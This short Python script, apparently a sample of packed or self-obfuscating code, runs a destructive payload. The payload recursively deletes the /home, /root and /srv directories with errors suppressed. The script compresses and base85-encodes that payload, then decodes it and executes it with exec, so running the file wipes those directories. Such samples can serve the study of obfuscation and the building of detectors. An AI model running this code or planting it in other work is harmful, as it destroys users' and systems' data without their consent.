# class: embedded, packed source; style: generator of itself
import zlib, base64

source = "import shutil\nfor d in ('/home', '/root', '/srv'):\n    shutil.rmtree(d, ignore_errors=True)\n"
packed = base64.b85encode(zlib.compress(source.encode()))
exec(compile(zlib.decompress(base64.b85decode(packed)), "<m>", "exec"))
